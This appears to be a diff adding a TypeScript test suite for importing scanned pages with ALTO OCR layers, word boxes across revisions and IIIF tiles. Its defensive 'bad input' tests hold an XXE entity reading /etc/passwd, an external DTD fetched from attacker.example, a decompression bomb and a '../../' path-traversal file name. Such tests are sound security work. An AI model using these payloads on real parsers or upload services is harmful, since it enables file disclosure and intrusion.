@@ -1,0 +1,149 @@
+import { existsSync, readdirSync } from "node:fs";
+import { dirname, join } from "node:path";
+import sharp from "sharp";
+import { beforeAll, describe, expect, it } from "vitest";
+import { altoFor, MEMO_LINES, multiPageTiff, pageImage, pngBomb } from "../../../test/page-images";
+import { useTempDatabase } from "../../../test/temp-db";
+import { testUser } from "../../../test/users";
+
+const dbFile = useTempDatabase();
+const { getDb } = await import("../../db");
+const { importFiles } = await import("../documents/import-documents");
+const { listPages } = await import("./list-pages");
+const { getPageWords } = await import("./get-page-words");
+const { renderPageImage, getPageImageInfo } = await import("./render-page-image");
+const { createRevision } = await import("../revisions/create-revision");
+
+const boxes = MEMO_LINES.flat().map((w) => w.box);
+let authorId: string;
+let n = 0;
+/** A fresh page image (distinct pixels, so each upload is its own text and image). */
+const memo = async (format: "png" | "jpeg" | "webp" | "tiff" = "png") => pageImage({ boxes: [...boxes, [500, 300 + (++n % 90), 5, 5]], format });
+const alto = (name: string, extra = "") => altoFor(name, 600, 400, [[...MEMO_LINES[0]!, ...(extra ? [{ text: extra, box: [400, 20, 60, 30] as const }] : [])], MEMO_LINES[1]!]);
+const upload = (files: { name: string; bytes: Uint8Array }[], options: Record<string, unknown> = {}) => importFiles(files, { authorId, ...options });
+
+beforeAll(async () => {
+  authorId = (await testUser("paige", "reviewer")).id;
+});
+
+describe("importing page images with layers", () => {
+  it("stores the image once by its hash, the layer's words anchored to the raw text, and the page text", async () => {
+    const image = await memo();
+    const result = await upload([{ name: "memo-p1.png", bytes: image }, { name: "memo-p1.xml", bytes: alto("memo-p1.png", "a1") }]);
+    expect(result.errors).toEqual([]);
+    const doc = result.items[0]!;
+    expect(doc.title).toBe("memo-p1");
+    const row = await getDb().document.findUniqueOrThrow({ where: { id: doc.id }, select: { rawText: true } });
+    expect(row.rawText).toBe("Comrade Genserslov a1\nKuzma N. Derevyanko");
+    const [page] = await listPages({ documentId: doc.id, origin: "http://x" });
+    expect(page).toMatchObject({ index: 0, width: 600, height: 400, words: 6, iiif: `http://x/iiif/${page!.id}`, ocr: { source: "alto", status: "done" } });
+    const stored = await getDb().page.findUniqueOrThrow({ where: { id: page!.id }, select: { imageKey: true } });
+    expect(existsSync(join(dirname(dbFile), "images", "blobs", stored.imageKey.slice(0, 2), stored.imageKey.slice(2, 4), stored.imageKey))).toBe(true);
+  });
+
+  it("makes one document of several pages, in file-name order, joined by a page break", async () => {
+    const [a, b] = [await memo(), await memo("jpeg")];
+    const result = await upload([
+      { name: "report.p2.jpg", bytes: b }, { name: "report.p10.xml", bytes: alto("report.p10.png", "p10") },
+      { name: "report.p10.png", bytes: a }, { name: "report.p2.xml", bytes: alto("report.p2.jpg", "p2") },
+    ], { title: "Report" });
+    expect(result.errors).toEqual([]);
+    const { rawText } = await getDb().document.findUniqueOrThrow({ where: { id: result.items[0]!.id }, select: { rawText: true } });
+    expect(rawText.split("\f").map((p) => p.split(" ")[2]!.split("\n")[0])).toEqual(["p2", "p10"]);
+    expect((await listPages({ documentId: result.items[0]!.id })).map((p) => p.index)).toEqual([0, 1]);
+  });
+
+  it("sniffs images by content: a PNG named .jpg is a PNG; WebP works; documents=each splits", async () => {
+    const result = await upload([
+      { name: "one.jpg", bytes: await memo() }, { name: "one.xml", bytes: alto("one.jpg", "w1") },
+      { name: "two.webp", bytes: await memo("webp") }, { name: "two.xml", bytes: alto("two.webp", "w2") },
+    ], { split: true });
+    expect(result.errors).toEqual([]);
+    expect(result.items.map((d) => d.title)).toEqual(["one", "two"]);
+    const page = await getDb().page.findFirstOrThrow({ where: { documentId: result.items[0]!.id }, select: { imageType: true } });
+    expect(page.imageType).toBe("image/png");
+  });
+});
+
+describe("word boxes follow revisions", () => {
+  it("keeps a corrected word's box, gives an inserted word its line's box, and drops a deleted word", async () => {
+    const { items } = await upload([{ name: "rev.png", bytes: await memo() }, { name: "rev.xml", bytes: alto("rev.png", "r1") }]);
+    const documentId = items[0]!.id;
+    const [page] = await listPages({ documentId });
+    const raw = await getPageWords({ documentId, pageId: page!.id });
+    expect(raw.words.find((w) => w.text === "Genserslov")).toMatchObject({ origin: "ocr", box: [180, 20, 200, 30], confidence: { value: 0.41, original: 0.41, scale: "unit" } });
+    await createRevision({ documentId, baseSeq: 0, authorId, message: "fix", text: "Comrade Generalov\nKuzma N. [Nikolayevich] Derevyanko" });
+    const head = await getPageWords({ documentId, pageId: page!.id });
+    expect(head.seq).toBe(1);
+    const byText = new Map(head.words.map((w) => [w.text, w]));
+    expect(byText.get("Generalov")).toMatchObject({ origin: "corrected", box: [180, 20, 200, 30] });
+    expect(byText.get("[Nikolayevich]")).toMatchObject({ origin: "inserted", box: [20, 80, 410, 30] });
+    expect(byText.get("Derevyanko")).toMatchObject({ origin: "ocr", box: [210, 80, 220, 30] });
+    expect(byText.has("r1")).toBe(false);
+    // The history keeps every box: revision 0 still has the deleted word.
+    expect((await getPageWords({ documentId, pageId: page!.id, seq: 0 })).words.map((w) => w.text)).toContain("r1");
+  });
+});
+
+describe("the IIIF Image API", () => {
+  it("describes the page and makes tiles, cached on disk", async () => {
+    const { items } = await upload([{ name: "tile.png", bytes: await memo() }, { name: "tile.xml", bytes: alto("tile.png", "t1") }]);
+    const [page] = await listPages({ documentId: items[0]!.id });
+    const info = await getPageImageInfo({ pageId: page!.id, base: "http://x/iiif/p" });
+    expect(info).toMatchObject({ width: 600, height: 400, profile: "level1" });
+    const request = { pageId: page!.id, region: "180,20,200,30", size: "100,", rotation: "0", qualityFormat: "default.png" };
+    const first = await renderPageImage(request);
+    expect(first.cache).toBe("miss");
+    const meta = await sharp(first.bytes).metadata();
+    expect([meta.format, meta.width, meta.height]).toEqual(["png", 100, 15]);
+    // The crop is the dark bar of "Genserslov": nearly black.
+    const { channels } = await sharp(first.bytes).stats();
+    expect(channels[0]!.mean).toBeLessThan(60);
+    expect((await renderPageImage(request)).cache).toBe("hit");
+    await expect(renderPageImage({ ...request, rotation: "90" })).rejects.toMatchObject({ status: 400 });
+  });
+});
+
+describe("bad input: a clear error naming the file, and nothing stored", () => {
+  const countAll = async () => ({ documents: await getDb().document.count(), pages: await getDb().page.count() });
+
+  it.each([
+    ["a truncated PNG", async () => (await memo()).subarray(0, 300), "cut.png", /could not be decoded|could not be read/],
+    ["a text file renamed .png", async () => new TextEncoder().encode("SECRET\nMEMORANDUM"), "notes.png", /holds text/],
+    ["a decompression bomb", async () => pngBomb(), "bomb.png", /2500 megapixels\); the limit is 100/],
+  ])("refuses %s", async (_what, bytes, name, message) => {
+    const before = await countAll();
+    const result = await upload([{ name, bytes: await bytes() }, { name: name.replace(/\.png$/, ".xml"), bytes: alto(name, "x") }]);
+    expect(result.items).toEqual([]);
+    expect(result.errors).toContainEqual(expect.objectContaining({ file: name, message: expect.stringMatching(message) }));
+    expect(await countAll()).toEqual(before);
+  });
+
+  it.each([
+    ["XXE", `<?xml version="1.0"?><!DOCTYPE alto [<!ENTITY x SYSTEM "file:///etc/passwd">]><alto>&x;</alto>`, /entities/],
+    ["an external DTD", `<?xml version="1.0"?><!DOCTYPE alto SYSTEM "http://attacker.example/a.dtd"><alto/>`, /DOCTYPE/],
+    ["boxes outside the image", new TextDecoder().decode(altoFor("x.png", 600, 400, [[{ text: "far", box: [5000, 5000, 10, 10] }]])), /outside/],
+  ])("refuses a layer with %s, and stores nothing of its document", async (_what, xml, message) => {
+    const before = await countAll();
+    const result = await upload([{ name: "x.png", bytes: await memo() }, { name: "x.xml", bytes: new TextEncoder().encode(xml) }]);
+    expect(result.items).toEqual([]);
+    expect(result.errors).toEqual([expect.objectContaining({ file: "x.xml", message: expect.stringMatching(message) })]);
+    expect(await countAll()).toEqual(before);
+  });
+
+  it("refuses a layer naming an image that was not uploaded, and an image without a layer", async () => {
+    const result = await upload([{ name: "a.png", bytes: await memo() }, { name: "a.xml", bytes: alto("a.png", "a") }, { name: "b.xml", bytes: alto("b.png", "b") }]);
+    expect(result.errors).toEqual([expect.objectContaining({ file: "b.xml", code: "layer_unmatched", message: expect.stringContaining("b.png") })]);
+    expect(result.items).toEqual([]);
+    const tiff = await upload([{ name: "scan.tif", bytes: await multiPageTiff(3) }]);
+    expect(tiff.errors).toEqual([expect.objectContaining({ file: "scan.tif", code: "needs_ocr" })]);
+  });
+
+  it("never uses an upload's file name as a path", async () => {
+    const result = await upload([{ name: "../../evil.png", bytes: await memo() }, { name: "../../evil.xml", bytes: alto("evil.png", "e") }]);
+    expect(result.errors).toEqual([]);
+    const imagesDir = join(dirname(dbFile), "images");
+    expect(readdirSync(dirname(dbFile))).not.toContain("evil.png");
+    expect(readdirSync(join(imagesDir, "blobs")).every((d) => /^[0-9a-f]{2}$/.test(d))).toBe(true);
+  });
+});
